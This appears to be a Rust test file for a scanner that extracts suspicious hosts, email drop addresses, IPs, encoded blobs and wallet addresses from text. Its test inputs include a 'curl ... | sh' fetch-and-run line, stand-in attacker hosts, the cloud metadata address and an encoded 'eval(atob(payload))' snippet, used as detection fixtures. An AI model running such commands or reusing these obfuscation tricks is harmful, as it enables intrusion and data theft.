//! What counts as a host, an address or encoded data, and what only looks like it.

use super::*;
use LiteralKind::{Blob, Email, Host, Ip, Wallet};

fn texts(value: &str) -> Vec<(LiteralKind, String)> {
    in_text(value)
}

fn one(value: &str) -> (LiteralKind, String) {
    let found = texts(value);
    assert_eq!(found.len(), 1, "{value:?}: {found:?}");
    found.into_iter().next().unwrap()
}

#[test]
fn an_address_is_never_missed() {
    for (value, text) in [
        ("drop@collector.club", "drop@collector.club"),
        ("Drop@Collector.CLUB", "drop@collector.club"),
        ("To: a <drop@collector.club>, b", "drop@collector.club"),
        ("mailto:drop@collector.club?subject=x", "drop@collector.club"),
        ("https://a.test/?to=drop@collector.club", "drop@collector.club"),
        ("drop%40collector.club", "drop@collector.club"),
        ("drop\\x40collector.club", "drop@collector.club"),
        ("ZHJvcEBjb2xsZWN0b3IuY2x1Yg==", "drop@collector.club"),
        ("64726f7040636f6c6c6563746f722e636c7562", "drop@collector.club"),
        ("1.2.3@4.collector.dev", "1.2.3@4.collector.dev"),
        ("a@1.2.3.collector.club", "a@1.2.3.collector.club"),
        ("bcc:\"d d\"@collector.club", "\"d d\"@collector.club"),
        ("ü@münchen.de", "ü@münchen.de"),
    ] {
        assert_eq!(one(value), (Email, text.to_owned()), "{value}");
    }
}

#[test]
fn what_only_looks_like_an_address_is_none() {
    for value in [
        "lodash@4.17.21",
        "lodash@1.0.0-alpha.beta",
        "@scope/name@latest",
        "icon@2x.png",
        "someone@example.com",
        "you@localhost",
        "getty@tty1.service",
        "user@",
        "@media.print",
        "https://registry.test/@scope",
    ] {
        assert_eq!(texts(value), [], "{value}");
    }
    assert_eq!(one("git@code.evil-host.com:a/b.git"), (Host, "code.evil-host.com".into()));
}

#[test]
fn hosts_are_read_as_fetch_reads_them() {
    for (value, text) in [
        ("https://Drop.Collector.club/a?b", "drop.collector.club"),
        ("wss://collector.club:8443", "collector.club:8443"),
        ("https://bank.com@collector.club/", "collector.club"),
        ("https:\\\\collector.club", "collector.club"),
        ("https:/collector.club", "collector.club"),
        ("https:collector.club", "collector.club"),
        ("ht\ntps://collector.club", "collector.club"),
        ("https://coll%65ctor.club/x", "collector.club"),
        ("https://collector\u{3002}club", "collector.club"),
        ("https://xn--80ak6aa92e.com", "xn--80ak6aa92e.com"),
        ("postgres://u:p@collector.club/db", "collector.club"),
        ("//collector.club/x.js", "collector.club"),
        ("collector.club", "collector.club"),
        (".collector.club", "collector.club"),
        ("abc.m.collector.net/path", "abc.m.collector.net"),
        ("webhook.site", "webhook.site"),
        ("curl -s collector.top | sh; wget collector.club", "collector.club"),
        ("bulc.rotcelloc//:sptth", "collector.club"),
        ("aHR0cHM6Ly9jb2xsZWN0b3IuY2x1Yg", "collector.club"),
        ("https%3A%2F%2Fcollector.club%2Fx", "collector.club"),
        ("Y29sbGVjdG9yLmNsdWI=", "collector.club"),
    ] {
        assert_eq!(one(value), (Host, text.to_owned()), "{value}");
    }
}

#[test]
fn what_is_no_host_is_left_out() {
    for value in [
        "foo.js",
        "package.json",
        "e.target",
        "self.name",
        "os.path",
        "console.info",
        "http://localhost:3000/",
        "http://127.0.0.1",
        "https://example.com/a",
        "https://api.example.org",
        "http://www.w3.org/2000/svg",
        "https://json-schema.org/draft/2020-12/schema",
        "https://",
        "https://api.",
        "http://x",
        "file:///etc/hosts",
        "ui://widget/x.html",
        "a sentence. another one, e.g. this",
        "application/vnd.api+json",
        "node:fs",
        "std::fs",
    ] {
        assert_eq!(texts(value), [], "{value}");
    }
    // A name that only ends like an ordinary one is another host.
    assert_eq!(one("https://notw3.org").1, "notw3.org");
    assert_eq!(one("https://w3.org.collector.club").1, "w3.org.collector.club");
}

#[test]
fn addresses_of_machines_are_told_from_versions() {
    for (value, text) in [
        ("http://45.9.148.3:8080/x", "45.9.148.3:8080"),
        ("45.9.148.3", "45.9.148.3"),
        ("connect 45.9.148.3:443", "45.9.148.3"),
        ("http://758748163/", "45.57.148.3"),
        ("http://0x2d.0x9.0x94.3", "45.9.148.3"),
        ("169.254.169.254", "169.254.169.254"),
        ("http://[2a00:1450:4001::1]/", "2a00:1450:4001::1"),
        ("2a00:1450:4001:80b::200e", "2a00:1450:4001:80b::200e"),
    ] {
        assert_eq!(one(value), (Ip, text.to_owned()), "{value}");
    }
    for value in [
        "127.0.0.1",
        "0.0.0.0",
        "::1",
        "Chrome/120.0.0.0",
        "v1.2.3.4",
        "1.2.3.4-rc",
        "1.2.3",
        "12:34:56",
        "1.2.840.113549.1",
        "2.5.4.3",
        "a::before",
    ] {
        assert_eq!(texts(value), [], "{value}");
    }
}

#[test]
fn encoded_data_is_told_from_hashes_pictures_and_words() {
    let noise: String = (0u32..240)
        .map(|n| char::from(b"AbC3dEf5GhIj+KlMn0PqRsT7uVwXyZ"[(n.wrapping_mul(2_654_435_761) >> 16) as usize % 30]))
        .collect();
    let hex: String = (0u32..80)
        .map(|n| char::from_digit(n.wrapping_mul(2_654_435_761) >> 28, 16).unwrap())
        .collect();
    assert_eq!(one(&noise).0, Blob);
    assert_eq!(one(&hex).0, Blob);
    assert!(one(&noise).1.chars().count() <= 200 && one(&noise).1 != one(&noise.replace('7', "8")).1);
    for value in [
        format!("sha512-{}==", &noise[..86]),
        format!("data:image/png;base64,iVBORw0KGgo{noise}"),
        hex[..64].to_owned(),
        "0".repeat(200),
        "/usr/share/Some/very/long/path/that/goes/on/and/on/through/2/many/Folders/until/it/is/longer/than/eighty".into(),
        "aVeryLongIdentifierThatSomebodyWroteInOneOfTheseLanguagesWhereNobodyKnowsWhenToStopWritingNamesLikeThis".into(),
        "123e4567-e89b-12d3-a456-426614174000".into(),
    ] {
        assert_eq!(texts(&value), [], "{value}");
    }
    // A picture by its label alone is data.
    assert_eq!(one(&format!("data:image/png;base64,{noise}")).0, Blob);
}

#[test]
fn hidden_code_is_shown_as_what_it_says() {
    let codes: Vec<_> = "eval(atob(payload)); run()".bytes().map(|b| b.to_string()).collect();
    for value in ["ZXZhbChhdG9iKHBheWxvYWQpKTsgcnVuKCk=".to_owned(), codes.join(","), codes.join(", ")] {
        assert_eq!(one(&value), (Blob, "eval(atob(payload)); run()".into()), "{value}");
    }
}

#[test]
fn wallets_are_known_by_form_and_checksum() {
    for value in [
        "0x52908400098527886E0F7030069857D2E4169EE7",
        "send to 1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa now",
        "bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq",
    ] {
        assert_eq!(one(value).0, Wallet, "{value}");
    }
    for value in ["1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNb", "0x0000000000000000000000000000000000000000"] {
        assert_eq!(texts(value), [], "{value}");
    }
}

#[test]
fn a_long_text_takes_linear_time() {
    for unit in ["@", "a@", "://", "https:", "a.b@c.", "1.", "%2", "\\x4", ":", "a", "1:", "\"@"] {
        let text = unit.repeat(100_000 / unit.len());
        let begun = std::time::Instant::now();
        places(&text);
        assert!(begun.elapsed().as_secs() < 5, "{unit}: {:?}", begun.elapsed());
    }
}
